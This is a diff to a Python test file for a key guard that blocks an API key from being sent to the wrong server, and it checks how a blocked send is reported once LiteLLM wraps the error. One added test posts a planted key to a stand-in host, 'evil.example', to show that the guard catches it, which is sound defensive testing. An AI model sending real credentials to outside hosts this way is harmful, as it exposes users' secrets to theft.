@@ -12,7 +12,9 @@ from tests.engine.listening import LITELLM
 from workbench.core.lanes import Endpoint
 from workbench.engine.calls import Call
 from workbench.engine.child import key_guard
+from workbench.engine.child.failures import Where
 from workbench.engine.child.key_guard import KeyHeldBackError, guarded
+from workbench.engine.child.litellm_failures import failure_of
 
 KEY = "sk-planted-0123456789"
 
@@ -98,3 +100,13 @@ def test_calls_that_wait_are_held_back_too() -> None:
 def test_a_key_that_is_exchanged_goes_to_the_server_that_exchanges_it() -> None:
     with guarded(call("https://us-south.ml.cloud.ibm.com"), "watsonx"):
         assert httpx.post("https://iam.cloud.ibm.com/identity/token", data={"apikey": KEY}).status_code == 200
+
+
+def test_what_was_held_back_is_said_as_what_it_is() -> None:
+    with guarded(call("https://gateway.example/v1"), "openai"), pytest.raises(KeyHeldBackError) as caught:
+        httpx.post("https://evil.example", headers={"authorization": KEY})
+    # So LiteLLM tells it on.
+    wrapped = Exception(f"litellm.APIConnectionError: OpenAIException - {caught.value}")
+    failure = failure_of(wrapped, Where("OpenAI", "gpt-5"), has_text=False).failure
+    assert failure.code == "bad_address"
+    assert "to another server" in failure.sentence
